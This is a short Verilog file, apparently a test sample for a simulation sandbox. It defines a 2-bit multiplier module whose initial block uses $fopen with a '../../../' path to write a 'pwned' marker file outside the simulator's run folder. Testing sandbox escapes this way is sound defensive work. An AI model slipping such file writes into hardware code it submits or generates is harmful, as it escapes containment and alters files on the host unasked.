// $fopen/$fwrite write a file next to the user's folder (relative to the simulator's run folder)
module mul2u_evil (A, B, O);
  input [1:0] A;
  input [1:0] B;
  output [3:0] O;
  wire [31:0] fd;
  initial begin
    fd = $fopen("../../../pwned_fopen.txt", "w");
    $fwrite(fd, "pwned\n");
    $fclose(fd);
  end
  assign O = {A[1] & B[1] & A[0] & B[0], A[1] & B[1] & ~(A[0] & B[0]), A[1] & B[0] ^ A[0] & B[1], A[0] & B[0]};
endmodule
